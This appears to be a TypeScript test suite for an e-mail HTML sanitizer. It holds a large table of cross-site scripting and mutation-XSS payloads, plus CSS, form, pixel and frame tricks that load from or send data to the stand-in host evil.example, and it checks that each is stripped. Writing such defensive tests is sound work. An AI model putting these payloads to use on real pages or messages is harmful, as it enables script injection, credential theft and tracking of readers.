import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { allowedAttributes, allowedTags } from "../../../src/pickup/body/allowed.ts";
import { filterStyle } from "../../../src/pickup/body/filter-style.ts";
import { safeHtml } from "../../../src/pickup/body/safe-html.ts";
import { textToHtml } from "../../../src/pickup/body/text-to-html.ts";

const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");

/** Asserts that only allowed elements and attributes are left, and that nothing is loaded or run. */
function assertHarmless(html: string): void {
  const parser = new Parser({
    onopentag: (name, attributes) => {
      assert.ok(allowedTags.includes(name), `<${name}> is left in ${html}`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const known = [...(allowedAttributes["*"] ?? []), ...(allowedAttributes[name] ?? [])];
        assert.ok(known.includes(attribute), `${attribute} is left in ${html}`);
        if (attribute === "src") assert.match(value, /^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]+$/);
        if (attribute === "href") assert.match(value, /^(https?:\/\/|mailto:|tel:)/i);
        if (attribute === "style") assert.doesNotMatch(value, /url|expression|import|\\|position|behaviou?r|\/\*|@/i);
      }
    },
    oncomment: (text) => assert.fail(`a comment is left: ${text}`),
  });
  parser.end(html);
}

const hostile: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "a script in odd letters": "<ScRiPt\n>alert(1)</sCrIpT\t>",
  "a half-open script": "<script>alert(1)",
  "a nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "a script behind a null": "<scr\0ipt>alert(1)</scr\0ipt>",
  "an event handler": '<img src=x onerror=alert(1)><p onclick="alert(1)">x</p><body onload=alert(1)>',
  "a handler after a slash": "<img/src=x/onerror=alert(1)>",
  "a javascript link": '<a href="javascript:alert(1)">x</a>',
  "a javascript link with control characters":
    '<a href="java\tscr\nipt:alert(1)">x</a><a href="\u0001javascript:alert(1)">x</a>',
  "a javascript link by entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
  "a data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "a vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
  "a protocol-relative link": '<a href="//evil.example/">x</a>',
  "a relative link": '<a href="/mpc/sign-out">x</a>',
  "an svg":
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "an svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "an svg animation": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  mathml: "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "mutation by a form in a table": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "mutation by a template": "<template><img src=x onerror=alert(1)></template>",
  "mutation by a textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "mutation by a title": '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "mutation by an iframe": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  "mutation by a comment": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>",
  "a conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]>",
  "a processing instruction": "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
  "a stylesheet": "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
  "a linked stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
  "css url": '<p style="background:url(https://evil.example/p.gif)">x</p>',
  "css url by escape": '<p style="background:\\75\\72\\6c(https://evil.example/p.gif)">x</p>',
  "css url behind a comment": '<p style="background-color:u/**/rl(https://evil.example/p.gif)">x</p>',
  "css image-set": "<p style=\"background-image:image-set('https://evil.example/p.gif' 1x)\">x</p>",
  "css list image": '<li style="list-style:url(https://evil.example/p.gif)">x</li>',
  "css expression": '<p style="width:expression(alert(1))">x</p>',
  "css that covers the page": '<a style="position:fixed;inset:0;z-index:9" href="https://evil.example/">x</a>',
  "a css variable": '<p style="--x:url(https://evil.example);color:var(--x)">x</p>',
  "a form":
    '<form action="https://evil.example/"><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>',
  "a meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "a base": '<base href="https://evil.example/"><a href="x">x</a>',
  frames:
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//evil.example></frameset>',
  "plug-ins":
    '<object data="https://evil.example/x.swf"></object><embed src="//evil.example/x"><applet code=x></applet>',
  media:
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=//evil.example/a></audio>",
  "a picture set":
    '<picture><source srcset="https://evil.example/p.gif"><img srcset="https://evil.example/p.gif 2x" src=https://evil.example/p></picture>',
  "a background attribute":
    '<table background="https://evil.example/p.gif"><td background="//evil.example/p">x</table>',
  "a tracking pixel": '<img src="https://evil.example/p.gif?who=bob" width=1 height=1>',
  "an image with odd spaces": '<img src=" \n https://evil.example/p.gif">',
  "an input image": '<input type=image src="https://evil.example/p.gif">',
  "a portal": '<portal src="https://evil.example/"></portal><fencedframe src=x></fencedframe>',
  "ids and names": "<p id=main name=cookie class=skip>x</p>",
  "an attribute without quotes": "<p title=`x`onmouseover=alert(1)>x</p>",
  "a dialog": "<dialog open popover id=x><p popovertarget=x>x</dialog><details open ontoggle=alert(1)>",
  "a slot": "<slot name=x><img src=x onerror=alert(1)></slot><x-foo is=y>",
};

describe("a body made safe", () => {
  for (const [name, html] of Object.entries(hostile)) {
    it(`has no ${name}`, () => {
      const once = safeHtml(html).html;
      assertHarmless(once);
      assert.doesNotMatch(once, /alert\(1\)(?![^<]*&gt;)[^<]*<\/script|<script|javascript:/i);
      assert.equal(safeHtml(once).html, once);
    });
  }

  it("is harmless whatever pieces of markup are put together", () => {
    const pieces = Object.values(hostile).flatMap((html) => html.split(/(?=[<>"'])/));
    const any = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 12 });
    fc.assert(
      fc.property(any, (parts) => assertHarmless(safeHtml(parts.join("")).html)),
      { numRuns: 400 },
    );
  });

  it("keeps what formats a letter", () => {
    const letter =
      '<h1>Offer</h1><p style="color:#333;font-family:\'Segoe UI\', Arial">Dear <b>Bob</b>,<br>see <a href="https://northwind.example/a?b=1&amp;c=2">here</a></p>' +
      '<table border="1" cellpadding="4"><tr><td colspan="2" align="right" bgcolor="#eeeeee">1,200</td></tr></table><ul><li>one</li></ul>';
    const { html, blockedImages } = safeHtml(letter);
    assert.equal(blockedImages, 0);
    for (const kept of [
      "<h1>Offer</h1>",
      "color:#333",
      "<b>Bob</b>",
      'colspan="2"',
      'bgcolor="#eeeeee"',
      "<li>one</li>",
    ]) {
      assert.ok(html.includes(kept), `${kept} is missing in ${html}`);
    }
    assert.match(
      html,
      /<a href="https:\/\/northwind\.example\/a\?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">/,
    );
  });

  it("shows the mail's own pictures by Content-ID, typed by their bytes", () => {
    const images = new Map([
      ["logo@x", png],
      ["page@x", Buffer.from("<html>")],
    ]);
    const { html, blockedImages } = safeHtml(
      '<img src="cid:logo%40x" alt="Logo"><img src="CID:page@x" alt="Page"><img src="cid:none">',
      images,
    );
    assert.match(html, /<img alt="Logo" src="data:image\/png;base64,/);
    assert.match(html, /<span>\[Page\]<\/span>/);
    assert.equal(html.match(/<img/g)?.length, 1);
    assert.equal(blockedImages, 0);
  });

  it("counts pictures from elsewhere and shows their descriptions instead", () => {
    const { html, blockedImages } = safeHtml(
      '<img src="https://a.example/1.png" alt="Chart &amp; table"><img src="//b.example/2.png">',
    );
    assert.equal(blockedImages, 2);
    assert.match(html, /<span>\[Chart &amp; table\]<\/span>/);
    assert.doesNotMatch(html, /a\.example|b\.example/);
  });

  it("survives ten thousand nested elements", () => {
    const { html } = safeHtml(`${"<div>".repeat(10_000)}deep`);
    assert.ok(html.length < 10_000);
  });
});

describe("a style attribute", () => {
  it("keeps harmless declarations and drops the rest", () => {
    const style =
      "color: RED; background:url(x); font-size:12px ;position:absolute; margin : 0 auto; width:calc(100% - 1px)";
    assert.equal(filterStyle(style), "color:RED;font-size:12px;margin:0 auto");
  });

  it("drops unbalanced quotes", () => assert.equal(filterStyle("font-family:'x; color:red"), "color:red"));
});

describe("a plain-text body", () => {
  it("is shown as it was typed, with web addresses as links", () => {
    const { html } = safeHtml(textToHtml('a <b> & "c"\n  see https://x.example/a?b=1&c=2. (https://y.example/d)'));
    assert.match(html, /a &lt;b&gt; &amp; "c"\n {2}see <a href="https:\/\/x\.example\/a\?b=1&amp;c=2"/);
    assert.match(html, /\(<a href="https:\/\/y\.example\/d"[^>]*>https:\/\/y\.example\/d<\/a>\)/);
    assert.match(html, /white-space:pre-wrap/);
  });

  it("cannot bring markup with it", () => {
    for (const html of Object.values(hostile)) {
      const shown = safeHtml(textToHtml(html)).html;
      assertHarmless(shown);
      assert.equal(shown.match(/<(?!\/?(?:div|a)\b)/), null);
    }
  });
});
